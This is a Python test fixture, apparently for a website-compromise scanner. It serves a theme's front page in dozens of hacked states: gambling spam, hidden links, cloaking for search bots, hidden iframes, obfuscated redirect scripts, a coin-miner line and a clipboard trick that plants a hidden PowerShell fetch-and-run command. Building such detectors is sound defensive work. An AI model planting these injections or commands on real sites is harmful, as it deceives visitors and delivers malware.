"""Websites as hackers leave them, by sort: what was put where, and for whose eyes."""

from __future__ import annotations

import base64
from collections.abc import Callable
from dataclasses import dataclass
from html import escape
from http.server import BaseHTTPRequestHandler

from tests.sitewatch.corpus import THEMES, TITLE, body
from tests.sitewatch.loopback import Answer, send

Chosen = Callable[[BaseHTTPRequestHandler], bool]


@dataclass(frozen=True)
class Hacked:
    """One state of a website: what was put where on its front page, in its files, and for whose eyes only."""

    sort: str
    name: str
    side: str = ""
    head: str = ""
    foot: str = ""
    css: str = ""
    js: str = ""
    title: str = TITLE
    whom: Chosen | None = None  # None: everybody
    redirect: str = ""


def _agent(*names: str) -> Chosen:
    return lambda handler: any(name in handler.headers["User-Agent"] for name in names)


def _from_search(handler: BaseHTTPRequestHandler) -> bool:
    return "google" in (handler.headers["Referer"] or "")


def _desk_from_search(handler: BaseHTTPRequestHandler) -> bool:
    return _from_search(handler) and "Windows" in handler.headers["User-Agent"]


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _codes(text: str) -> str:
    return ",".join(str(ord(letter)) for letter in text)


def _hex(text: str) -> str:
    return "".join(f"\\x{ord(letter):02x}" for letter in text)


def script(code: str) -> str:
    return f"<script>{code}</script>"


AWAY = "https://pusat-hiburan.example/"
SPAM = "<p>Slot gacor hari ini gampang maxwin</p>"

STATES = (
    # words in sight
    Hacked("words", "an offer in a widget", side=SPAM),
    Hacked("words", "an offer in a footer", foot="<p>Situs slot gacor terpercaya dan RTP live tertinggi</p>"),
    Hacked("words", "in signs", side="<p>D4ft4r s1tus sl0t g4c0r m4xw1n</p>"),
    Hacked("words", "in letters of other scripts", foot="<p>ѕlоt gасоr</p>"),
    Hacked("words", "in a hidden part", foot='<div style="display:none">Bandar togel online terpercaya</div>'),
    Hacked(
        "words",
        "with a word of warning among offers",
        side="<p>Waspada penipuan! Daftar slot gacor, bandar togel, situs slot maxwin, bonus new member di sini</p>",
    ),
    # what search engines are told
    Hacked("told", "og:title", head='<meta property="og:title" content="Slot Gacor Hari Ini Maxwin">'),
    Hacked("told", "a brand in og:title", head='<meta property="og:title" content="DEWA138 - Login Resmi">'),
    Hacked("told", "the title", title="RAJA77: Situs Slot Gacor"),
    Hacked("told", "keywords", head='<meta name="keywords" content="togel online, bandar togel, slot gacor">'),
    Hacked("told", "twitter:title", head='<meta name="twitter:title" content="Togel Singapore Hari Ini">'),
    Hacked(
        "told",
        "data for search engines",
        head='<script type="application/ld+json">'
        '{"@context":"https://schema.org","@type":"Product","name":"Slot Gacor 777 Maxwin"}</script>',
    ),
    Hacked("told", "the description", head='<meta name="description" content="Bandar togel terpercaya bonus deposit">'),
    # links by name or host
    Hacked("links", "brands in the footer", foot=f'<a href="{AWAY}">DEWA138</a> <a href="{AWAY}2">HOKI88</a>'),
    Hacked("links", "a brand on the site itself", foot='<a href="/upload/mpo500/">MPO500</a>'),
    Hacked("links", "a gambling host", side='<a href="https://rajaslot88.example/">Mitra kami</a>'),
    Hacked(
        "links",
        "a host in other letters",
        side=f'<a href="https://{"slоt".encode("idna").decode()}.example/">Mitra</a>',
    ),
    Hacked("links", "a trade for a domain", side='<a href="https://hiburan.casino/">Info</a>'),
    Hacked("links", "a brand in two words", foot=f'<a href="{AWAY}">KOI TOTO</a>'),
    Hacked("links", "a link to play in words", foot=f'<a href="{AWAY}">togel online</a>'),
    # banners
    Hacked(
        "banner", "to a gambling host", side='<a href="https://gacor77.example/daftar"><img src="/b.gif" alt=""></a>'
    ),
    Hacked("banner", "with words for the blind", side=f'<a href="{AWAY}"><img src="/b.gif" alt="Slot gacor"></a>'),
    Hacked("banner", "with a name for a file", side=f'<a href="{AWAY}"><img src="/img/banner-slot-gacor.gif"></a>'),
    Hacked(
        "banner",
        "floating over the page",
        foot='<div style="position:fixed;bottom:0;z-index:99999">'
        '<a href="https://olxtoto.example/"><img src="https://i.example/x.gif"></a></div>',
    ),
    # hidden links, inline
    Hacked("hidden inline", "not displayed", foot=f'<div style="display:none"><a href="{AWAY}">sponsor</a></div>'),
    Hacked(
        "hidden inline",
        "off the screen",
        foot=f'<div style="position:absolute;left:-9999px"><a href="{AWAY}">x</a></div>',
    ),
    Hacked(
        "hidden inline", "without height", foot=f'<div style="height:0;overflow:hidden"><a href="{AWAY}">x</a></div>'
    ),
    Hacked("hidden inline", "tiny", foot=f'<a style="font-size:1px" href="{AWAY}">mitra</a>'),
    Hacked(
        "hidden inline", "white on white", foot=f'<p style="color:#fff;background:#ffffff"><a href="{AWAY}">x</a></p>'
    ),
    Hacked("hidden inline", "moved by its margin", foot=f'<p style="margin-left:-20000px"><a href="{AWAY}">x</a></p>'),
    Hacked(
        "hidden inline",
        "scrolled out of sight",
        foot=f'<marquee style="width:1px;height:1px;overflow:hidden"><a href="{AWAY}">x</a></marquee>',
    ),
    # hidden links, by style sheets
    Hacked(
        "hidden by style",
        "in the page",
        head="<style>.zx9{text-indent:-9999px}</style>",
        foot=f'<p class="zx9"><a href="{AWAY}">sponsor</a></p>',
    ),
    Hacked(
        "hidden by style", "in a file", css=".q1{display:none}", foot=f'<p class="q1"><a href="{AWAY}">sponsor</a></p>'
    ),
    Hacked(
        "hidden by style",
        "in a file, by steps",
        css="body footer .q2 a { position:absolute; left:-5000px }",
        foot=f'<footer><p class="q2"><a href="{AWAY}">sponsor</a></p></footer>',
    ),
    Hacked(
        "hidden by style",
        "in a file, by its id",
        css="#q3{opacity:0;height:1px}",
        foot=f'<div id="q3"><a href="{AWAY}">sponsor</a></div>',
    ),
    Hacked(
        "hidden by style",
        "by a style below it",
        foot=f'<p class="zz"><a href="{AWAY}">x</a></p><style>.zz{{display:none}}</style>',
    ),
    Hacked("hidden by style", "words that a style writes", css='.x:after{content:"slot gacor maxwin"}'),
    # frames
    Hacked("frame", "of one point", foot=f'<iframe src="{AWAY}" width="1" height="1"></iframe>'),
    Hacked("frame", "not displayed", foot=f'<iframe src="{AWAY}" style="display:none"></iframe>'),
    Hacked(
        "frame",
        "in a hidden part",
        foot=f'<div style="position:absolute;top:-9999px"><iframe src="{AWAY}"></iframe></div>',
    ),
    Hacked(
        "frame", "of a gambling host", side='<iframe src="https://slot88.example/" width="300" height="200"></iframe>'
    ),
    Hacked(
        "frame",
        "whole in an address",
        foot='<iframe src="data:text/html;base64,' + _b64(f'<script src="{AWAY}x.js"></script>') + '"></iframe>',
    ),
    Hacked(
        "frame",
        "whole in an attribute",
        foot=f'<iframe srcdoc="{escape(f"<script>location={AWAY!r}</script>")}"></iframe>',
    ),
    # redirects
    Hacked("redirect", "refresh", head=f'<meta http-equiv="refresh" content="0;url={AWAY}">'),
    Hacked("redirect", "a script", foot=script(f'window.location.href="{AWAY}"')),
    Hacked(
        "redirect",
        "for those from a search",
        foot=script(f'if(document.referrer.match(/google/)){{location.replace("{AWAY}")}}'),
    ),
    Hacked("redirect", "for phones", foot=script(f'if(/Android/.test(navigator.userAgent)){{top.location="{AWAY}"}}')),
    Hacked("redirect", "from an image that fails", foot=f'<img src="/x" onerror="location=\'{AWAY}\'">'),
    Hacked("redirect", "by the server", redirect=AWAY),
    # scripts assembled at run time
    Hacked(
        "assembled", "of pieces", foot=script('var a="https://pusat",b="-hiburan.example/";if(1){location.href=a+b}')
    ),
    Hacked("assembled", "of codes", foot=script(f"location=String.fromCharCode({_codes(AWAY)})")),
    Hacked(
        "assembled",
        "backwards",
        foot=script(f'setTimeout(function(){{location="{AWAY[::-1]}".split("").reverse().join("")}},9)'),
    ),
    Hacked(
        "assembled",
        "of a list",
        foot=script("var q=['exam','ple/','https://pusat-','hiburan.'];self['location']['href']=q[2]+q[3]+q[0]+q[1]"),
    ),
    Hacked("assembled", "of hex signs", foot=script(f'window["{_hex("location")}"]="{_hex(AWAY)}"')),
    Hacked(
        "assembled",
        "in a file of the site",
        js='var u="https:"+"//pusat-"+"hiburan.example/";function go(){window.location.replace(u)}go()',
    ),
    # veiled scripts
    Hacked("veiled", "eval of base64", foot=script(f"eval(atob('{_b64('alert(1)')}'))")),
    Hacked("veiled", "a function of base64", foot=script(f"(new Function(atob('{_b64('alert(1)')}')))()")),
    Hacked("veiled", "eval of codes", foot=script("eval(String.fromCharCode(97,108,101,114,116,40,49,41))")),
    Hacked(
        "veiled",
        "a script in an address",
        foot=f'<script src="data:text/javascript;base64,{_b64(f"location={AWAY!r}")}"></script>',
    ),
    Hacked("veiled", "mangled names", foot=script("".join(f"var _0x{n:04x}=_0x1a2b({n});" for n in range(20)))),
    Hacked(
        "veiled",
        "a command for visitors to run",
        foot=script("navigator.clipboard.writeText('powershell -w hidden -c iex(iwr https://x.example/a)')"),
    ),
    # foreign scripts
    Hacked("foreign script", "written", foot=script(f"document.write('<script src=\"{AWAY}j.js\"><\\/script>')")),
    Hacked(
        "foreign script",
        "written from percent signs",
        foot=script('document.write(unescape("%3Cscript src=%22https://pusat.example/j.js%22%3E%3C/script%3E"))'),
    ),
    Hacked("foreign script", "of a gambling host", head='<script src="https://cdn.gacor88.example/a.js"></script>'),
    Hacked("foreign script", "of a bare number", head='<script src="http://45.9.148.3/a.js"></script>'),
    Hacked("foreign script", "that digs coins", foot=script("var m=new CoinHive.Anonymous('k');m.start()")),
    # vandalism
    Hacked("vandalism", "a heading", side="<h1>Hacked by Gh0st_ID</h1>"),
    Hacked("vandalism", "the title", title="Owned by XploitTeam"),
    Hacked("vandalism", "with a greeting", foot="<center>Touched by Mr.X7<br>Greetz to all crew</center>"),
    # other trades
    Hacked("other trades", "loans", side="<p>Pinjol cepat cair tanpa BI checking, modal KTP saja</p>"),
    Hacked("other trades", "pills", foot=f'<a href="{AWAY}">Buy Viagra online without prescription</a>'),
    Hacked("other trades", "adult", side=f'<a href="{AWAY}">Nonton bokep indo</a>'),
    Hacked("other trades", "coins", side="<p>Double your Bitcoin! Claim your airdrop now</p>"),
    Hacked("other trades", "a pharmacy's host", foot='<a href="https://cheap-viagra.example/">kesehatan</a>'),
    Hacked("other trades", "a lender's host", foot='<a href="https://pinjol-kilat.example/">bantuan modal</a>'),
    Hacked("other trades", "false papers", foot="<p>Jasa pembuatan ijazah dan jual ijazah asli</p>"),
    # cloaking
    Hacked("cloaked", "for Google", side=SPAM, whom=_agent("Googlebot")),
    Hacked(
        "cloaked",
        "for Google's phones",
        side=SPAM,
        whom=lambda h: "Googlebot" in h.headers["User-Agent"] and "Mobile" in h.headers["User-Agent"],
    ),
    Hacked("cloaked", "for Bing", side=SPAM, whom=_agent("bingbot")),
    Hacked("cloaked", "for those from a search", side=SPAM, whom=_from_search),
    Hacked("cloaked", "for those from a search at a desk", redirect=AWAY, whom=_desk_from_search),
    Hacked("cloaked", "for phones", redirect=AWAY, whom=_agent("Android")),
    Hacked("cloaked", "for browsers, not for checkers", side=SPAM, whom=_agent("Chrome/")),
    Hacked(
        "cloaked",
        "links for Google",
        whom=_agent("Googlebot"),
        foot="".join(f'<a href="https://w{n}.example/">w{n}</a>' for n in range(9)),
    ),
)


def serve(theme: str, state: Hacked | None) -> Answer:
    """A website that shows a theme's front page, hacked so; None: as it was before."""
    style = '<link rel="stylesheet" href="/theme/style.css"><script src="/theme/main.js"></script>'

    def answer(handler: BaseHTTPRequestHandler) -> None:
        now = state if state and (state.whom is None or state.whom(handler)) else None
        if handler.path.startswith("/theme/style.css"):
            send(handler, "body{margin:0}.menu ul{display:none}" + (now.css if now else ""), kind="text/css")
        elif handler.path.startswith("/theme/main.js"):
            send(handler, "var a=1;" + (now.js if now else ""), kind="application/javascript")
        elif now and now.redirect:
            send(handler, status=302, Location=now.redirect)
        else:
            h = now or Hacked("", "")
            send(handler, THEMES[theme](h.title, body(), h.side, style + h.head, h.foot))

    return answer
